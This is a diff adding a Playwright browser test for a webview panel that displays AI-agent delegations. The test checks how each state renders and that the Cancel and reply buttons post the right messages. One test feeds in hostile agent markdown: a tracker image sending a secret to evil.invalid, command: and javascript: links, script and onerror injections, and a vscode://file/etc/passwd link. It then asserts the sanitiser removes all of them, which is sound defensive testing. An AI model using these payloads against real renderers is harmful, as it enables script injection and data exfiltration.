@@ -1,0 +1,160 @@
+// The panel's own script in a real browser (Debian Chromium through playwright-core), fed snapshots the
+// way the host sends them: each delegation state renders, agent markdown is sanitised (no remote
+// image is fetched, no command: link survives), and the buttons post the protocol's requests.
+// Screenshots of every state go to test-results/webview/.
+import * as assert from 'node:assert/strict';
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { join, resolve } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import type { DelegationView, PanelSnapshot } from '../../../src/core/protocol/panelProtocol';
+
+const repo = resolve(__dirname, '../../..');
+const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';
+const bundle = join(repo, 'dist/webview/panel.js');
+const shots = join(repo, 'test-results/webview');
+const skip = !existsSync(CHROMIUM) ? 'Chromium is not installed (test/integration/setup.sh installs it)' : !existsSync(bundle) ? 'dist/webview/panel.js is not built (npm run build)' : false;
+
+const page404: string[] = [];
+let server: Server;
+let base = '';
+let browser: Browser;
+
+const html = `<!DOCTYPE html><html><head><meta charset="utf-8">
+<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; font-src 'self'; img-src 'self' data:; connect-src 'none'">
+<link rel="stylesheet" href="/codicon.css" id="vscode-codicon-stylesheet">
+<style>:root{--vscode-font-family:sans-serif;--vscode-font-size:13px;--vscode-foreground:#3b3b3b;--vscode-editor-background:#fff;--vscode-descriptionForeground:#717171;--vscode-badge-background:#cce5ff;--vscode-badge-foreground:#000;--vscode-button-background:#005fb8;--vscode-button-foreground:#fff;--vscode-errorForeground:#c00;--vscode-inputValidation-warningBackground:#fff4ce;--vscode-inputValidation-warningBorder:#b89500;--vscode-inputValidation-errorBackground:#fde7e9;--vscode-inputValidation-errorBorder:#c00;--vscode-focusBorder:#005fb8;--vscode-progressBar-background:#005fb8}</style>
+<script>window.__posted=[];window.__state=undefined;window.acquireVsCodeApi=()=>({postMessage:m=>window.__posted.push(m),getState:()=>window.__state,setState:s=>{window.__state=s}});</script>
+</head><body><main id="app"></main><script type="module" src="/panel.js"></script></body></html>`;
+
+function delegation(over: Partial<DelegationView>): DelegationView {
+  return {
+    id: 'd-1',
+    title: 'Format the files under src/',
+    agent: { name: 'Formatter', endpoint: 'http://127.0.0.1:7777/a2a/formatter' },
+    state: 'working',
+    terminal: false,
+    startedAt: new Date(Date.now() - 75_000).toISOString(),
+    deadline: new Date(Date.now() + 600_000).toISOString(),
+    capabilities: { write: false, shell: false, network: false },
+    executor: 'formatter (built-in) via baton-gateway',
+    confined: true,
+    timeline: [
+      { seq: 1, at: new Date(Date.now() - 70_000).toISOString(), kind: 'status', text: 'Submitted', state: 'submitted' },
+      { seq: 2, at: new Date(Date.now() - 60_000).toISOString(), kind: 'step', text: 'Prepared a throwaway copy of the repository' },
+      { seq: 3, at: new Date(Date.now() - 50_000).toISOString(), kind: 'message', markdown: true, text: 'Formatting **3 files** with `prettier`' },
+    ],
+    artifacts: [],
+    ...over,
+  };
+}
+
+function snapshot(d?: DelegationView): PanelSnapshot {
+  return { title: 'Baton', trusted: true, agents: 2, delegations: 1, producedAt: new Date().toISOString(), refreshCount: 0, delegation: d };
+}
+
+async function open(snap: PanelSnapshot): Promise<Page> {
+  const page = await browser.newPage({ viewport: { width: 1000, height: 720 } });
+  page.on('request', (r) => {
+    if (!r.url().startsWith(base)) page404.push(r.url());
+  });
+  await page.goto(`${base}/index.html`);
+  await page.waitForFunction(() => (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'ready'));
+  await page.evaluate((s) => window.postMessage({ type: 'snapshot', snapshot: s }, '*'), snap);
+  await page.waitForSelector('#state, .empty');
+  return page;
+}
+
+const posted = (page: Page) => page.evaluate(() => (window as unknown as { __posted: unknown[] }).__posted);
+
+describe('delegation panel in a real browser', { skip }, () => {
+  before(async () => {
+    mkdirSync(shots, { recursive: true });
+    server = createServer((req, res) => {
+      const name = (req.url ?? '/').split('?')[0];
+      const file = name === '/index.html' ? null : join(repo, 'dist/webview', name.replace(/^\/+/, ''));
+      if (name === '/index.html') {
+        res.writeHead(200, { 'content-type': 'text/html' }).end(html);
+      } else if (file && existsSync(file)) {
+        res.writeHead(200, { 'content-type': file.endsWith('.js') ? 'text/javascript' : file.endsWith('.css') ? 'text/css' : 'font/ttf' }).end(readFileSync(file));
+      } else res.writeHead(404).end();
+    });
+    await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
+    const addr = server.address();
+    base = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      headless: true,
+      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-dev-shm-usage'],
+    });
+  });
+  after(async () => {
+    await browser?.close();
+    server?.close();
+  });
+
+  it('renders a running delegation with its facts, timeline and a Cancel button that posts cancel', async () => {
+    const page = await open(snapshot(delegation({})));
+    assert.equal(await page.getAttribute('#state', 'data-state'), 'working');
+    assert.match(await page.innerText('body'), /read-only/);
+    assert.equal(await page.locator('#timeline li').count(), 3);
+    await page.screenshot({ path: join(shots, 'working.png') });
+    await page.click('#cancel');
+    const msgs = (await posted(page)) as { type: string; method?: string }[];
+    assert.ok(msgs.some((m) => m.type === 'request' && m.method === 'cancel'), JSON.stringify(msgs));
+    await page.close();
+  });
+
+  it('sanitises agent markdown: no remote image is fetched, no command: or javascript: link survives', async () => {
+    const evil = [
+      'Done. ![tracker](https://evil.invalid/pixel.png?secret=abc)',
+      '[run me](command:workbench.action.terminal.new) [js](javascript:alert(1)) [ok](https://example.com/docs)',
+      '<img src="https://evil.invalid/x.png" onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
+      '<a href="vscode://file/etc/passwd">file</a> <iframe src="https://evil.invalid"></iframe> <form action="https://evil.invalid"><input></form>',
+    ].join('\n\n');
+    const page = await open(snapshot(delegation({ timeline: [{ seq: 1, at: new Date().toISOString(), kind: 'message', markdown: true, text: evil }] })));
+    await page.waitForTimeout(300);
+    assert.equal(await page.locator('#app img').count(), 0);
+    assert.equal(await page.locator('#app iframe, #app form, #app input, #app script').count(), 0);
+    const hrefs = await page.$$eval('a[href]', (as) => as.map((a) => a.getAttribute('href')));
+    assert.deepEqual(hrefs, ['https://example.com/docs']);
+    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
+    assert.match(await page.innerText('#timeline'), /\[image: tracker\]/);
+    assert.deepEqual(page404.filter((u) => u.includes('evil')), []);
+    await page.screenshot({ path: join(shots, 'sanitised.png') });
+    await page.close();
+  });
+
+  it('shows the reply box for input-required and posts the reply', async () => {
+    const page = await open(snapshot(delegation({ state: 'input-required', question: 'Which **quote style**: single or double?' })));
+    await page.locator('#reply-text').click();
+    await page.keyboard.type('single quotes');
+    await page.screenshot({ path: join(shots, 'input-required.png') });
+    await page.click('#send-reply');
+    const msgs = (await posted(page)) as { type: string; method?: string; params?: { text?: string } }[];
+    assert.ok(msgs.some((m) => m.method === 'reply' && m.params?.text === 'single quotes'), JSON.stringify(msgs));
+    await page.close();
+  });
+
+  const terminal: [DelegationView['state'], Partial<DelegationView>, RegExp][] = [
+    ['completed', { patch: { files: 3, additions: 12, deletions: 9 }, artifacts: [{ name: 'changes.patch', mediaType: 'text/x-diff', bytes: 1834, digest: 'sha256:0f3c9a1b2c3d4e5f60718293a4b5c6d7e8f9', isPatch: true }], signature: { status: 'verified', detail: 'gateway key 7Q2…' } }, /Review Changes/],
+    ['failed', { reason: 'prettier exited with code 2: src/broken.js: SyntaxError' }, /SyntaxError/],
+    ['unknown', { reason: 'The stream broke and the agent did not answer GetTask for 60 s.' }, /Check again/],
+    ['expired', {}, /deadline passed/],
+    ['canceled', { cancelConfirmed: false }, /did not confirm/],
+    ['auth-required', {}, /secret storage/],
+    ['completed', { patch: { files: 1, additions: 1, deletions: 0 }, signature: { status: 'invalid', detail: 'artifact changes.patch does not match its signed digest' } }, /does not match/],
+  ];
+  for (const [state, over, expect] of terminal) {
+    it(`shows the ${state} outcome distinctly${over.signature ? ` (signature ${over.signature.status})` : ''}`, async () => {
+      const done = !['auth-required'].includes(state);
+      const page = await open(snapshot(delegation({ state, terminal: done, endedAt: done ? new Date().toISOString() : undefined, ...over })));
+      assert.equal(await page.getAttribute('#state', 'data-state'), state);
+      assert.match(await page.innerText('body'), expect);
+      assert.equal(await page.locator('#cancel').count(), done ? 0 : 1);
+      await page.screenshot({ path: join(shots, `${state}${over.signature ? `-${over.signature.status}` : ''}.png`) });
+      await page.close();
+    });
+  }
+});
